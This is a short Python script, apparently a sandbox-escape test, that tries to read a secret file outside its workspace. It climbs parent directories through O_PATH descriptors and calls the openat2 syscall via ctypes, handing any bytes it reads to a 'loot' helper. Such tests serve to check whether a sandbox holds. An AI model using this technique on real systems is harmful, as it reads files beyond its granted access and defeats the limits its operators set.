"""Climb above the workspace by a chain of two dots from open folders, and by the new ways to open files."""

# aims: secret
# control: harms
import ctypes
import os
import struct

from attack import attempt, call, loot, said, target, tried

tried()
at = os.open(".", os.O_PATH)
for _ in range(40):
    below = attempt(os.open, "vault/secret.txt", os.O_RDONLY) if False else None
    try:
        below = os.open("vault/secret.txt", os.O_RDONLY, dir_fd=at)
        loot(os.read(below, 200))
    except OSError:
        below = None
    at = os.open("..", os.O_PATH, dir_fd=at)
how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_RDONLY, 0, 0), 24)
for path in (target["secret"], os.path.relpath(target["secret"])):
    found = call("openat2", -100, os.fsencode(path), how, 24)
    print(said(found))
    if found >= 0:
        loot(os.read(found, 200))
